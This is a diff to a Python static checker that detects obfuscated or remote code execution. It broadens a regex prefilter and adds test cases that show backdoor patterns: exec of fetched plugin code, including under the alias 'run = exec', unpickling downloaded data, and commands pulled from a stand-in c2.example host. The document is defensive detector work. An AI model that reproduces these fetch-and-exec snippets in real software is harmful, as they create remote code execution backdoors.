@@ -39,10 +39,11 @@ DANGEROUS_MODULES = {"os", "subprocess", "socket", "pty", "ctypes", "builtins", 
                      "nt", "importlib", "sys", "shutil", "urllib.request", "requests", "base64", "zlib", "runpy",
                      "code", "codeop", "types", "platform"}
 BUILTIN_HOLDERS = {"builtins", "__builtins__", "__builtin__"}
-# Cheap prefilter: execution primitives, builtins holders, decoders, unpicklers, process calls,
-# getattr with a built name and literal concatenation (names assembled from pieces).
+# Cheap prefilter: execution primitives (called or not: `run = exec` then `run(payload)`), builtins
+# holders, decoders, unpicklers, process calls, getattr with a built name and literal concatenation
+# (names assembled from pieces).
 TRIGGER = re.compile(
-    rb"(?<![.\w])(?:exec|eval|compile|execfile|__import__)\s*\(|import_module|FunctionType|CodeType|__builtins__|"
+    rb"(?<![.\w])(?:exec|eval|compile|execfile|__import__)\b|import_module|FunctionType|CodeType|__builtins__|"
     rb"__builtin__|\bbuiltins\b|globals\(\)\s*\[|locals\(\)\s*\[|vars\(|__dict__\s*\[|b64decode|b32decode|b16decode|fromhex|"
     rb"unhexlify|a2b_|decompress|codecs|marshal|pickle|dill|jsonpickle|unsafe_load|runpy|subprocess|system\(|popen|"
     rb"getattr\([^\n]*(?:[\"']\s*\+|\+\s*[\"']|join\(|\[::-1\]|chr\(|decode\()"
@@ -271,6 +272,9 @@ class ObfuscatedExec(PythonChecker):
         Invalid('import base64\n__builtins__.__dict__["exec"](base64.b64decode("cHJpbnQoMSk="))\n', "BDL501", 2),
         # BDL502: executing or unpickling downloaded data
         Invalid('import requests\ndef update():\n    exec(requests.get("https://p.example/plugin.py").text)\n', "BDL502", 3),
+        # exec under another name: no `exec(` anywhere in the file
+        Invalid('import requests\nrun = exec\ndef update():\n    run(requests.get("https://p.example/plugin.py").text)\n',
+                "BDL502", 4),
         Invalid('import pickle, urllib.request as u\ndef f(url):\n    data = u.urlopen(url).read()\n    return pickle.loads(data)\n',
                 "BDL502", 4),
         Invalid('import httpx, subprocess\ndef f():\n    cmd = httpx.get("https://c2.example/cmd").text\n'
